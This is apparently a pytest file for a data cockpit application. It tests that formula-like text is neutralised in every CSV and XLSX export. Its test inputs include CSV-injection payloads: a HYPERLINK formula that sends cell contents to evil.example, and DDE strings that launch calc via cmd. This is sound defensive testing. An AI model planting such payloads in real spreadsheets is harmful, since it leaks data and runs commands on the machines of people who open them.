"""Formula cells neutralised in every CSV/XLSX the cockpit writes (CSV injection): explorer and indicator exports,
the open-data API's CSV, `run.py export` and `run.py measures export`; one helper (`cockpit.spreadsheet`) whose
escaping reads back exactly, so a measures file survives the round trip."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from cockpit.cli import main
from cockpit.commands import export
from cockpit.measures import load_measures
from cockpit.spreadsheet import FORMULA_START, csv_chunks, neutralise, restore, xlsx_chunks
from cockpit.views.opendata import csv_text

ATTACKS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''-1"]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_reads_back_exactly(text):
    cell = neutralise(text)
    assert not runs_as_formula(cell)
    assert restore(cell) == text
    if not runs_as_formula(text) and not text.startswith("'"):
        assert cell == text  # ordinary texts are left alone


def test_numbers_are_never_neutralised():
    assert neutralise(-1.5) == -1.5 and neutralise(-3) == -3 and neutralise(None) is None


@pytest.mark.parametrize("lang", ["de", "en"])
def test_csv_and_xlsx_writers_neutralise_every_text_cell_but_keep_numbers(lang):
    rows = [[attack, -1.25, attack] for attack in ATTACKS]
    text = b"".join(csv_chunks(["=Name", "Wert", "@x"], rows, lang)).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text), delimiter=";" if lang == "de" else ","))
    for row in parsed:
        assert not any(runs_as_formula(cell) for i, cell in enumerate(row) if i != 1)
    assert [r[1] for r in parsed[1:]] == ["-1,25" if lang == "de" else "-1.25"] * len(ATTACKS)
    assert [restore(r[0]) for r in parsed[1:]] == ATTACKS
    book = load_workbook(io.BytesIO(b"".join(xlsx_chunks([("Daten", ["=Name", "Wert"], rows)]))))
    sheet = book["Daten"]
    for row in sheet.iter_rows():
        name = row[0]
        assert name.data_type == "s" and not runs_as_formula(name.value)
    assert [r[1].value for r in sheet.iter_rows(min_row=2)] == [-1.25] * len(ATTACKS)


def test_the_open_data_csv_neutralises_texts():
    records = [{"indicator": "=1+1", "district": "@x", "period_start": "2026-01-01T00:00:00Z",
                "period_end": "2026-02-01T00:00:00Z", "value": -2.5}]
    for lang in ("de", "en"):
        rows = list(csv.reader(io.StringIO(csv_text(records, "raw", lang).lstrip("\ufeff")),
                               delimiter=";" if lang == "de" else ","))
        assert rows[1][:2] == ["'=1+1", "'@x"] and rows[1][4] in ("-2,5", "-2.5")


def test_measures_export_neutralises_formula_cells_and_imports_them_back(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("COCKPIT_DATABASE_URL", f"sqlite:///{tmp_path / 'cockpit.db'}")
    monkeypatch.setenv("COCKPIT_LOAD_DEMO", "false")
    source = tmp_path / "in.yaml"
    source.write_text(
        "measures:\n"
        "  - id: formula-test\n"
        "    name: {de: '=HYPERLINK(\"http://evil.example\",\"Klick\")', en: '@SUM(1+1)'}\n"
        "    description: {de: '-2+3+cmd', en: '+cmd'}\n"
        "    field: climate-energy\n    department: umweltamt\n    contact: '+49 365 838-0'\n",
        encoding="utf-8")
    assert main(["measures", "import", str(source)]) == 0
    exported = tmp_path / "out.csv"
    assert main(["measures", "export", str(exported)]) == 0
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"))))
    row = next(r for r in rows if r["id"] == "formula-test")
    for column in ("name_de", "name_en", "description_de", "description_en", "contact"):
        assert row[column].startswith("'") and not runs_as_formula(row[column]), column
    assert load_measures(exported) == load_measures(source)


def test_run_py_export_neutralises_text_cells(tmp_path, monkeypatch):
    monkeypatch.setattr(export, "open_cockpit", lambda: _Cockpit())
    target = tmp_path / "obs.csv"
    assert main(["export", "--output", str(target)]) == 0
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert rows[0] == ["indicator", "district", "period_start", "value"]
    assert rows[1][:2] == ["'=1+1", "'@lusan"] and rows[1][3] == "-1.5"


class _Cockpit:
    """A stand-in store that returns a frame with hostile texts (the catalog's slugs cannot hold them)."""

    class store:  # noqa: N801
        @staticmethod
        def observations(role, indicators, district=None):
            return pd.DataFrame({"indicator": ["=1+1"], "district": ["@lusan"],
                                 "period_start": [pd.Timestamp("2026-01-01", tz="UTC")], "value": [-1.5]})
